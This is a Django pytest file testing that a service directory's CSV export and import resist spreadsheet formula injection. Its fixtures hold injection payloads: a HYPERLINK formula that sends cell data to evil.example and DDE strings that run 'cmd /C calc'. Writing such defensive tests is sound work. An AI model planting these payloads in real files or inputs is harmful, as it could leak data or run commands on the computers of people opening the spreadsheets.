"""The directory's CSV export: no cell runs as a spreadsheet formula, and a file exported and
imported again changes nothing. A service's name cannot be a formula at all."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from local_offer.models import SERVICE_NAME_FORMULA, Service

pytestmark = pytest.mark.django_db

FORMULAS = {
    "description": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "fees_description": "+44 20 7946 0000",
    "eligibility_description": "-2+3+cmd|' /C calc'!A0",
    "application_process": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def editor_client(client, directory_editor):
    client.force_login(directory_editor)
    return client


def exported(client) -> dict[str, dict[str, str]]:
    response = client.get("/directory/export.csv")
    assert response.status_code == 200
    return {r["name"]: r for r in csv.DictReader(io.StringIO(response.content.decode()))}


def test_cells_a_spreadsheet_would_run_are_neutralised(editor_client, small_directory):
    Service.objects.filter(pk=small_directory.pk).update(
        **FORMULAS,
        email="",
        assurer_email="",
    )
    cells = exported(editor_client)["Saturday Club"]
    for column in ("description", "fees_description", "eligibility_description"):
        assert cells[column].startswith("'"), column
        assert cells[column].lstrip("'")[:1] == FORMULAS[column][0]
    assert cells["application_process"].startswith("'@")
    assert cells["minimum_age"] == "5"


def test_an_exported_file_imports_unchanged(editor_client, small_directory):
    fields = ["description", "fees_description", "eligibility_description", "application_process"]
    Service.objects.filter(pk=small_directory.pk).update(**{k: FORMULAS[k] for k in fields})
    content = editor_client.get("/directory/export.csv").content
    response = editor_client.post(
        "/directory/import/", {"file": SimpleUploadedFile("services.csv", content)}
    )
    assert response.status_code == 302
    after = Service.objects.get(pk=small_directory.pk)
    assert {k: getattr(after, k) for k in fields} == {k: FORMULAS[k] for k in fields}


@pytest.mark.parametrize("name", ["=1+1", "+Plus club", "-cmd", "@home", "=cmd|' /C calc'!A0"])
def test_a_service_name_cannot_be_a_formula_in_the_editor(editor_client, small_directory, name):
    response = editor_client.post(
        f"/directory/services/{small_directory.pk}/edit/",
        {
            "organization": small_directory.organization_id,
            "name": name,
            "description": "Play",
            "status": "active",
        },
    )
    assert response.status_code == 200
    assert SERVICE_NAME_FORMULA in response.content.decode().replace("&#x27;", "'")
    assert Service.objects.get(pk=small_directory.pk).name == "Saturday Club"


def test_a_service_name_cannot_be_a_formula_in_an_import(editor_client, small_directory):
    content = editor_client.get("/directory/export.csv").content.decode()
    # A file written by hand, not by the export: the name cell is a bare formula.
    content = content.replace("Saturday Club", "=1+1")
    response = editor_client.post(
        "/directory/import/", {"file": SimpleUploadedFile("services.csv", content.encode())}
    )
    assert response.status_code == 400
    assert "Row 2: name: " + SERVICE_NAME_FORMULA in response.content.decode().replace(
        "&#x27;", "'"
    )
    assert Service.objects.get(pk=small_directory.pk).name == "Saturday Club"


def test_ordinary_names_are_still_fine(editor_client, small_directory):
    response = editor_client.post(
        f"/directory/services/{small_directory.pk}/edit/",
        {
            "organization": small_directory.organization_id,
            "name": "(Re)start: 1-to-1 mentoring",
            "description": "Play",
            "status": "active",
        },
    )
    assert response.status_code == 302
